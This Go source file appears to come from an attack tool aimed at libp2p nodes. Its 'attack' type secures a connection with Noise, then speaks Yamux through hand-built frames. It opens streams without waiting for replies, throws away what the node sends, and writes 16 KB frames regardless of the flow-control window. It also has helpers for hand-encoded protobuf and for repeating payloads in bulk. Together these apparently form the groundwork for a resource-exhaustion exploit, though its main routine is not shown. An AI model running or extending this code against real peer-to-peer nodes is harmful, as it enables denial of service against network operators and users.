package main

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"net"

	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	libp2pnoise "github.com/libp2p/go-libp2p/p2p/security/noise"
	ma "github.com/multiformats/go-multiaddr"
	mss "github.com/multiformats/go-multistream"
)

func withoutPeer(address ma.Multiaddr) ma.Multiaddr {
	transport, _ := peer.SplitAddr(address)
	return transport
}

// secure negotiates Noise and completes the handshake; what is written to its result is sealed.
func (a *attack) secure() (net.Conn, error) {
	if err := mss.SelectProtoOrFail(libp2pnoise.ID, a.conn); err != nil {
		return nil, err
	}
	key, _, err := crypto.GenerateEd25519Key(rand.Reader)
	if err != nil {
		return nil, err
	}
	transport, err := libp2pnoise.New(libp2pnoise.ID, key, nil)
	if err != nil {
		return nil, err
	}
	_, target := peer.SplitAddr(a.target)
	return transport.SecureOutbound(context.Background(), a.conn, target)
}

// Yamux as the specification has it: 12 bytes of header, big endian.
const (
	typeData = iota
	typeWindow
	typePing
	typeGoAway
)

const (
	flagSYN = 1 << iota
	flagACK
	flagFIN
	flagRST
)

func frame(version, kind byte, flags uint16, stream, length uint32, payload []byte) []byte {
	out := []byte{version, kind}
	out = binary.BigEndian.AppendUint16(out, flags)
	out = binary.BigEndian.AppendUint32(out, stream)
	out = binary.BigEndian.AppendUint32(out, length)
	return append(out, payload...)
}

func data(stream uint32, flags uint16, payload []byte) []byte {
	return frame(0, typeData, flags, stream, uint32(len(payload)), payload)
}

// session is a secured connection that speaks Yamux. What the node sends is thrown away.
type session struct {
	*attack
	conn net.Conn
	next uint32
}

func (a *attack) yamux() (*session, error) {
	conn, err := a.secure()
	if err != nil {
		return nil, err
	}
	if err := mss.SelectProtoOrFail("/yamux/1.0.0", conn); err != nil {
		return nil, err
	}
	return &session{a, conn, 1}, nil
}

func (s *session) send(frames ...[]byte) error {
	for _, one := range frames {
		if _, err := s.conn.Write(one); err != nil {
			return over(err)
		}
	}
	return nil
}

// open opens a stream and proposes a protocol on it, without waiting for the answer.
func (s *session) open(id protocol.ID) (uint32, error) {
	stream := s.next
	s.next += 2
	return stream, s.send(data(stream, flagSYN, proposal(id)))
}

// proposal is the header of multistream-select and one protocol.
func proposal(id protocol.ID) []byte {
	return append(message("/multistream/1.0.0"), message(string(id))...)
}

func message(text string) []byte {
	return append(binary.AppendUvarint(nil, uint64(len(text)+1)), text+"\n"...)
}

// write sends bytes on a stream in frames of 16 KB, whatever its window says.
func (s *session) write(stream uint32, bytes []byte) error {
	for len(bytes) > 0 {
		n := min(len(bytes), 16<<10)
		if err := s.send(data(stream, 0, bytes[:n])); err != nil {
			return err
		}
		bytes = bytes[n:]
	}
	return nil
}

// Protobuf, by hand: a field with a length.
func field(number uint64, bytes []byte) []byte {
	out := binary.AppendUvarint(nil, number<<3|2)
	out = binary.AppendUvarint(out, uint64(len(bytes)))
	return append(out, bytes...)
}

func lengthPrefixed(bytes []byte) []byte {
	return append(binary.AppendUvarint(nil, uint64(len(bytes))), bytes...)
}

func repeat(piece []byte, times int) []byte {
	out := make([]byte, 0, len(piece)*times)
	for range times {
		out = append(out, piece...)
	}
	return out
}
